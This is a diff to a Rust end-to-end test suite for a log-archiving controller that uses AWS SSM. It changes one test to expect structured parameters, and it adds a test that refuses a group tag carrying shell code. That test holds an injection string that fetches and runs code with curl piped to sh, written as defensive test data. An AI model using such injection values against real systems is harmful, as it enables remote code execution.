@@ -288,23 +288,21 @@ async fn an_agentless_instance_gets_its_logs_archived_through_ssm_before_the_fal
         .await;
     assert_eq!(sent.len(), 1, "{sent:?}");
     let params = &sent[0]["params"];
-    assert_eq!(params["DocumentName"], "AWS-RunShellScript");
+    assert_eq!(sent[0]["status"], 200, "{sent:?}");
+    assert_eq!(params["DocumentName"], "lifeguard-ArchiveLogs");
     assert_eq!(params["InstanceIds"], serde_json::json!([victim]));
-    let script = params["Parameters"]["commands"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|l| l.as_str().unwrap())
-        .collect::<Vec<_>>()
-        .join("\n");
-    assert!(script.contains("tar czf"), "{script}");
-    assert!(script.contains("/var/log"), "{script}");
+    assert_eq!(
+        params["Parameters"]["bucket"],
+        serde_json::json!([lifeguard_e2e::drain::BUCKET])
+    );
+    assert_eq!(
+        params["Parameters"]["paths"],
+        serde_json::json!(["/var/log"])
+    );
+    let key = params["Parameters"]["key"][0].as_str().unwrap();
     assert!(
-        script.contains(&format!(
-            "s3://{}/lifeguard/web/{victim}/",
-            lifeguard_e2e::drain::BUCKET
-        )),
-        "{script}"
+        key.starts_with(&format!("lifeguard/web/{victim}/")) && key.ends_with("-agentless.tar.gz"),
+        "{key}"
     );
     // Followed to its end, then the fallback, once, after it.
     let looked = stage
@@ -328,6 +326,42 @@ async fn an_agentless_instance_gets_its_logs_archived_through_ssm_before_the_fal
     let log = controller.process.log();
     assert!(
         log.contains("archiving the logs through SSM Run Command"),
+        "{log}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_group_tag_carrying_shell_code_never_reaches_an_instance() {
+    // Anyone who may tag the group could otherwise run code as root on every instance.
+    let hostile = "x'; curl -s http://127.0.0.1:9/p | sh; echo '";
+    let scene = scene(
+        1,
+        60,
+        &[
+            ("lifeguard:archive-bucket", hostile),
+            ("lifeguard:fallback-result", "CONTINUE"),
+        ],
+    )
+    .await;
+    let stage = &scene.stage;
+    let victim = stage.instances[0].clone();
+    let controller = scene.start_controller("ctl", "agent_grace_secs = 3");
+    controller.wait_ready().await;
+
+    stage.terminate(&victim).await;
+    stage.wait_terminated(&victim, WAIT).await;
+
+    // No command at all: the tag was refused as a whole, so the configured policy (no agentless
+    // archive, fallback ABANDON) applied, and the refusal is in the log with the tag's name.
+    let sent = stage.emulator.calls("ssm", "SendCommand", None).await;
+    assert!(sent.is_empty(), "{sent:?}");
+    assert_eq!(
+        stage.completions(&victim).await,
+        vec![(200, "ABANDON".to_string())]
+    );
+    let log = controller.process.log();
+    assert!(
+        log.contains("group tag ignored") && log.contains("archive_bucket"),
         "{log}"
     );
 }
